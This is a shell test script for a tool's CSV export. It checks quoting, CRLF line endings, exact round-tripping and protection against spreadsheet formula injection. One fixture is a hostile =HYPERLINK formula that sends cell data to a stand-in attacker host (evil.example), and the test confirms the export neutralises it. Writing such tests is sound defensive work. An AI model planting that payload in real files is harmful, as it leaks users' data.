#!/bin/sh
# Export as CSV: a folder of files read back by Python's csv module and
# compared cell by cell with the record; RFC 4180 quoting, CRLF, UTF-8,
# and no cell a spreadsheet could take for a formula.
. "$(dirname "$0")/tap.sh"
tmpdir
. "$(dirname "$0")/export_lib.sh"
plan 15

demo
out=$(bs export demo --format csv -o "$TMP/demo" 2>&1)
is "$out" "Wrote the CSV export to $TMP/demo." "export --format csv -o DIR says where it wrote"
out=$(CHECK csv "$DB" demo "$TMP/demo" 2>&1)
is "$out" "" "every file, header, row count and cell of the demo equals the record"
is "$(ls "$TMP" | grep -v '^record\.db')" "demo" "and no temporary folder is left beside it"
mkdir "$TMP/empty"
bs export demo --format csv -o "$TMP/empty/" > /dev/null
ok "[ -f '$TMP/empty/README.md' ] && [ -f '$TMP/empty/changes.csv' ]" \
    "an empty folder that exists is filled (a trailing slash is fine)"
like "$(sed -n 3p "$TMP/demo/README.md")" \
    "^Made on 2026-11-30T00:53:20Z by blanksheet, export format version 2, from a record at schema version [0-9]+\.$" \
    "the data card says when and by which version it was made"
like "$(grep -A 2 '^### contributions.csv' "$TMP/demo/README.md" | tail -1)" \
    "22 rows\.$" "and counts the rows of each file"

rm -rf "$DB" "$TMP/demo" "$TMP/empty"
awkward
bs export awkward --format csv -o "$TMP/awk" > /dev/null
out=$(CHECK csv "$DB" awkward "$TMP/awk" 2>&1)
is "$out" "" "every cell of the awkward workshop equals the record, after the one guard quote is taken off"
row=$(grep -a '^awkward,c2,' "$TMP/awk/contributions.csv" | tr -d '\r')
is "$row" "awkward,c2,home,,like,facilitator,'=SUM(A1:A9)," "a cell starting with = gets one single quote in front"
row=$(grep -a '^awkward,c8,' "$TMP/awk/contributions.csv" | tr -d '\r')
is "$row" "awkward,c8,accommodation,,dislike,facilitator,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"," \
    "a quoted cell is guarded inside its quotes, its quotes doubled"
row=$(grep -a '^awkward,c6,' "$TMP/awk/contributions.csv" | tr -d '\r')
is "$row" "awkward,c6,home,,note,facilitator,\"''tis the season, isn't it\"," \
    "a cell that already starts with a quote gets one more, so the rule reverses exactly"
row=$(grep -a '^awkward,d1,home,home-visits' "$TMP/awk/changes.csv" | tr -d '\r')
is "$row" "awkward,d1,home,home-visits,home,state,pounds,-50000" \
    "a negative number in a number column stays a plain number"
out=$(grep -c -a "$(printf '\r')\$" "$TMP/awk/decisions.csv")
is "$out" "4" "rows end with CRLF"

# Line breaks, a tab and a carriage return at the start: only JSON can
# carry them in, so import a document that has them.
bs export awkward --format json -o "$TMP/awk.json" > /dev/null
"$PY" -c '
import json, sys
d = json.load(open(sys.argv[1]))
c = d["contributions"]
c[0]["text"] = "Line one,\nline \"two\"\r\nline three"
c[1]["text"] = "\tstarts with a tab"
c[2]["text"] = "\rstarts with a carriage return"
c[3]["text"] = "-1"
json.dump(d, open(sys.argv[2], "w"), ensure_ascii=False, indent=1)
' "$TMP/awk.json" "$TMP/breaks.json"
DB=$TMP/breaks.db
bs init > /dev/null
bs import "$TMP/breaks.json" > /dev/null
bs export awkward --format csv -o "$TMP/breaks" > /dev/null
out=$(CHECK csv "$DB" awkward "$TMP/breaks" 2>&1)
is "$out" "" "line breaks, a tab and a carriage return come back exactly"
ok "grep -a -q '^awkward,c1,home,,goodlife,facilitator,\"Line one,\$' '$TMP/breaks/contributions.csv'" \
    "a line break inside a cell is kept, inside quotes"
row=$(grep -a '^awkward,c4,' "$TMP/breaks/contributions.csv" | tr -d '\r')
is "$row" "awkward,c4,home,,idea,facilitator,'-1," "text that looks like a negative number is guarded in a text column"
